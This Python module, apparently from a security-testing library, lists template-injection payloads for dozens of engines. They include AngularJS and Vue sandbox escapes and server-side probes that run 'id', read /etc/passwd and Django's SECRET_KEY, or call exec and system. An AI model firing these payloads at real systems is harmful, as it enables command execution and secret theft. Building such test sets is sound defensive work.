r"""A second pass through a template engine, in the page or on a server."""

from __future__ import annotations

from support.tricks.payloads import RUN, Rows

__all__ = ["TEMPLATE_INJECTION"]

# Each engine's expression ends, and what runs between them: arithmetic on servers, the constructor in pages.
_ENDS = {
    "braces": "{{{{{}}}}}",
    "braces-lines": "{{{{\n{}\n}}}}",
    "braces-trimmed": "{{{{- {} -}}}}",
    "braces-three": "{{{{{{{}}}}}}}",
    "braces-bang": "{{!! {} !!}}",
    "braces-hash": "#{{{}}}",
    "braces-star": "*{{{}}}",
    "braces-dollar": "${{{}}}",
    "braces-at": "@{{{}}}",
    "braces-one": "{{{}}}",
    "braces-percent": "{{% {} %}}",
    "braces-equals": "{{={}}}",
    "brackets": "[[{}]]",
    "brackets-round": "[({})]",
    "brackets-percent": "[% {} %]",
    "angles-percent": "<%={}%>",
    "angles-percent-dash": "<%-{}-%>",
    "angles-hash": "<#assign x={}>",
    "at": "@({})",
    "percents": "%%{}%%",
    "dollars": "$!{{{}}}",
    "tilde": "~[{}]",
}

_VUE = {
    "open-block": "{{_openBlock.constructor('window.canary=1')()}}",
    "to-display": "{{_toDisplayString.constructor('window.canary=1')()}}",
    "emit": "{{$emit.constructor('window.canary=1')()}}",
    "window": "{{$el.ownerDocument.defaultView.canary=1}}",
    "this": "{{this.constructor.constructor('window.canary=1')()}}",
    "function": "{{-function(){this.canary=1}()}}",
    "array": "{{[].map.constructor('window.canary=1')()}}",
    "comment": "{{/*}}*/''.sub.constructor('window.canary=1')()}}",
    "html": "<p v-html=\"''.sub.constructor('window.canary=1')()\"></p>",
    "if": "<p v-if=\"''.sub.constructor('window.canary=1')()\"></p>",
    "for": "<p v-for=\"x in ''.sub.constructor('window.canary=1')()\"></p>",
    "bind": "<p :x=\"''.sub.constructor('window.canary=1')()\"></p>",
    "bind-name": "<p :[''.sub.constructor('window.canary=1')()]=x></p>",
    "on": '<img src=x @error="$event.view.canary=1">',
    "on-vnode": "<p @vue:mounted=\"''.sub.constructor('window.canary=1')()\"></p>",
    "component": '<component is=script text="window.canary=1"></component>',
    "teleport": '<teleport to="body"><img src=x onerror=window.canary=1></teleport>',
    "slot-scope": "<p slot-scope=\"){}}])+this.constructor.constructor('window.canary=1')()})};//\"></p>",
    "effect": '<p v-effect="window.canary=1"></p>',
    "scope": "<p v-scope=\"{x:''.sub.constructor('window.canary=1')()}\">{{x}}</p>",
    "pre-end": "</div><div>{{_c.constructor('window.canary=1')()}}",  # out of the root that has v-pre
    "once": "<p v-once v-text=\"''.sub.constructor('window.canary=1')()\"></p>",
}

# Ways out of AngularJS's sandbox, by a release that each is for; from 1.6 on there is none. Run in Chromium from
# 1.2.27 on; npm has no older releases, and the first three are as they were published.
_ANGULAR = {
    "1-2-0": "{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'window.canary=1')()}}",
    "1-2-6": "{{(_=''.sub).call.call({}[$='constructor'].getOwnPropertyDescriptor(_.__proto__,$).value,0,'window.canary=1')()}}",
    "1-2-19": "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;['a','window.canary=1'].sort(toString.constructor)}}",
    "1-2-27": '{{{}.")));canary=1//"}}',  # a dot would cut it in two
    "1-3-0": "{{!ready&&(ready=true)&&(!call?$$watchers[0].get(toString.constructor.prototype):(a=apply)&&(apply=constructor)&&(valueOf=call)&&(''+''.toString('F=Function.prototype;F.apply=F.a;delete F.a;delete F.valueOf;window.canary=1')))}}",
    "1-3-1": "{{{}[{toString:[].join,length:1,0:'__proto__'}].assign=[].join;'a'.constructor.prototype.charAt=''.valueOf;$eval('x=window.canary=1//')}}",
    "1-3-3": "{{{}[{toString:[].join,length:1,0:'__proto__'}].assign=[].join;'a'.constructor.prototype.charAt=[].join;$eval('x=window.canary=1//')}}",
    "1-3-20": "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=window.canary=1')}}",
    "1-4-0": "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };window.canary=1//')}}",
    "1-5-0": "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,window.canary=1,a')}}",
    "1-5-9": (
        "{{c=''.sub.call;b=''.sub.bind;a=''.sub.apply;c.$apply=$apply;c.$eval=b;op=$root.$$phase;$root.$$phase=null;"
        "od=$root.$digest;$root.$digest=({}).toString;C=c.$apply(c);$root.$$phase=op;$root.$digest=od;B=C(b,c,b);"
        "$evalAsync(\"astNode=pop();astNode.type='UnaryExpression';astNode.operator='(window.canary=1)+';"
        "astNode.argument={type:'Identifier',name:'x'};\");m1=B($$asyncQueue.pop().expression,null,$root);"
        "m2=B(C,null,m1);[].push.apply=m2;a=''.sub;$eval('a(b.c)');[].push.apply=a}}"
    ),
    "1-6-new": "{{$new.constructor('window.canary=1')()}}",
    "1-6-pop": "{{[].pop.constructor('window.canary=1')()}}",
    "1-6-key": "{{0[a='constructor'][a]('window.canary=1')()}}",
    "filter": "{{['window.canary=1']|orderBy:'constructor.constructor(this)()'}}",
    "filter-path": "<input ng-focus=\"$event.composedPath()|orderBy:'canary=1'\" autofocus>",  # ends at the window
    "event": '<input autofocus ng-focus="$event.view.canary=1">',
    "csp": "<p ng-app ng-csp><p ng-init=\"constructor.constructor('window.canary=1')()\"></p></p>",
    "class": "<p class=\"ng-init:constructor.constructor('window.canary=1')()\"></p>",
    "include": "<p ng-include=\"'data:text/html,x'\"></p>",
    "start-end": "{{'{{'}}constructor.constructor('window.canary=1')(){{'}}'}}",
    "non-bindable-end": "</div><div>{{$on.constructor('window.canary=1')()}}",  # out of the root that has it
}

# Other frameworks that read the page's attributes and text.
_IN_PAGE = {
    "alpine-text": '<p x-data x-text="window.canary=1"></p>',
    "alpine-html": "<p x-data x-html=\"'<img src=x onerror=window.canary=1>'\"></p>",
    "alpine-effect": '<p x-data x-effect="window.canary=1"></p>',
    "alpine-data": '<p x-data="{x:window.canary=1}"></p>',
    "alpine-bind": '<p x-data :x="window.canary=1"></p>',
    "alpine-for": '<template x-data x-for="x in [window.canary=1]"><p></p></template>',
    "alpine-init": '<p x-data @alpine:init.window="window.canary=1" x-intersect="window.canary=1"></p>',
    "htmx-on": '<p hx-get=/ hx-trigger=load hx-on::before-request="window.canary=1"></p>',
    "htmx-values": "<p hx-get=/ hx-trigger=load hx-vals='js:{x:window.canary=1}'></p>",
    "hyperscript": '<p _="on load set window.canary to 1"></p>',
    "knockout": '<p data-bind="text:window.canary=1"></p>',
    "knockout-comment": "<!-- ko text:window.canary=1 --><!-- /ko -->",
    "stimulus": '<p data-controller="x" data-action="load@window->x#y"></p>',
    "angular-2": '<p [innerHTML]="window.canary" (click)="window.canary=1"></p>',
    "react": "<p dangerouslySetInnerHTML={{__html:'<img src=x onerror=window.canary=1>'}}></p>",
    "svelte": "{@html '<img src=x onerror=window.canary=1>'}",
    "svelte-block": "{#if window.canary=1}{/if}",
    "handlebars-lookup": "{{#with (lookup this 'constructor') as |f|}}{{f}}{{/with}}",
    "handlebars-partial": "{{> @partial-block}}",
    "handlebars-each": "{{#each this}}{{@key}}{{this}}{{/each}}",
    "mustache-delimiters": "{{=<% %>=}}<%& x %>",
    "mustache-unescaped": "{{&x}}",
    "lodash": f"<% {RUN} %>",
    "lodash-escape": f"<%- {RUN} %>",
    "jsrender": f"{{{{:{RUN}}}}}",
    "dot": f"{{{{= {RUN} }}}}",
    "dot-evaluate": f"{{{{ {RUN}; }}}}",
    "pug": f"#{{{RUN}}} !{{{RUN}}}",
    "pug-line": f"script {RUN}\n- {RUN}",
    "mavo": "[window.canary=1]",
    "lit": "${(()=>window.canary=1)()}",
    "google-tag": "{{Page URL}}",
}

_ON_SERVER = {
    "jinja-config": "{{ config.items() }}",
    "jinja-globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "jinja-attr": "{{ ''|attr('__class__') }}",
    "jinja-attr-escaped": "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "jinja-request": "{{ request.application.__globals__ }}",
    "jinja-safe": "{{ '<img src=x onerror=window.canary=1>'|safe }}",
    "jinja-include": "{% include '/etc/passwd' %}",
    "jinja-extends": "{% extends 'x.html' %}",
    "jinja-block": "{% endblock %}{% block body %}",
    "jinja-set": "{% set x = 7 %}{{ x }}",
    "jinja-autoescape": "{% autoescape false %}<b>{% endautoescape %}",
    "jinja-comment-end": "#}{{ 7*7 }}{#",
    "jinja-expression-end": "' }}{{ 7*7 }}{{ '",
    "jinja-half": "{",
    "jinja-half-percent": "{%",
    "jinja-half-hash": "{#",
    "jinja-half-end": "%}",
    "jinja-loop": "{% for x in range(99999) %}x{% endfor %}",
    "jinja-line": "\n# for x in range(9)\n## x",
    "jinja-whitespace": "{%- if 1 -%}x{%+ endif +%}",
    "django-settings": "{{ settings.SECRET_KEY }}",
    "django-verbatim": "{% endverbatim %}{% debug %}{% verbatim %}",
    "django-include": "{% include request.GET.x %}",
    "django-csrf": "{% csrf_token %}{% url 'x' %}",
    "twig": "{{ _self.env.registerUndefinedFilterCallback('exec') }}",
    "twig-map": "{{ ['id']|map('system') }}",
    "smarty": "{php}echo 1;{/php}{literal}{/literal}",
    "smarty-math": "{$smarty.version}{math equation='7*7'}",
    "latte": "{=7*7}{include x}",
    "blade": "@php echo 1; @endphp @{{ 7*7 }}",
    "freemarker": '${"freemarker.template.utility.Execute"?new()("id")}',
    "velocity": "#set($x=7*7)$x $!{x}",
    "thymeleaf": "__${7*7}__::.x",
    "spring": "#{T(java.lang.Runtime).getRuntime()}",
    "jsp": "<%@ include file='/etc/passwd' %><jsp:include page='x'/>",
    "jsp-tag": "<c:out value='${7*7}' escapeXml='false'/>",
    "erb-system": "<%= system('id') %>",
    "erb-comment": "<%# x %><%% x %%>",
    "haml": "= 7*7\n- system('id')\n%script",
    "liquid": "{{ 7 | times: 7 }}{% assign x = 7 %}{{ x }}",
    "liquid-raw": "{% endraw %}{{ content_for_header }}{% raw %}",
    "mako": "<%! import os %>${os.popen('id')}",
    "mako-line": "\n% for x in y:\n## x",
    "tornado": "{% import os %}{{ os.popen('id').read() }}",
    "chameleon": '<p tal:content="structure python:7*7"></p>',
    "genshi": '<p py:content="7*7"><?python x=1 ?></p>',
    "go": '{{ printf "%s" . }}{{ template "x" }}',
    "go-define": '{{ define "x" }}x{{ end }}',
    "hugo": "{{< x >}}{{% x %}}",
    "jekyll": "---\nlayout: x\n---\n{% include_relative x %}",
    "nunjucks": "{{ range.constructor('return 7*7')() }}",
    "eex": "<%= 7*7 %><%% x %>",
    "razor": '@{ var x = 7*7; }@x @Html.Raw("<b>")',
    "asp": '<%@ Page Language="C#" %><asp:Label runat=server>',
    "coldfusion": "<cfoutput>#7*7#</cfoutput>",
    "ssi": '<!--#exec cmd="id" -->',
    "ssi-include": '<!--#include virtual="/etc/passwd" -->',
    "esi": '<esi:include src="https://example.com/x"/>',
    "esi-comment": "<!--esi <esi:vars>$(HTTP_COOKIE)</esi:vars> -->",
    "php-short": "<? echo 1 ?>",
    "php-script": "<script language=php>echo 1</script>",
    "wordpress": "[gallery ids='1'][/gallery]",
    "typo3": "###MARKER### {record:uid}",
    "magento": "{{block class='x'}}{{config path='x'}}",  # the shop's own directives
    "shopify": "{{ customer.email }}{% render 'x' %}",
    "unity": "%%UNIQUE%% *|FNAME|* {{contact.email}}",  # e-mail programs fill these in
}

TEMPLATE_INJECTION: Rows = (
    *((f"template-{name}-product", form.format("7*7")) for name, form in _ENDS.items()),
    *((f"template-{name}-constructor", form.format(f"[].at.constructor('{RUN}')()")) for name, form in _ENDS.items()),
    *((f"vue-{name}", value) for name, value in _VUE.items()),
    *((f"angular-{name}", value) for name, value in _ANGULAR.items()),
    *((f"page-{name}", value) for name, value in _IN_PAGE.items()),
    *((f"server-{name}", value) for name, value in _ON_SERVER.items()),
)
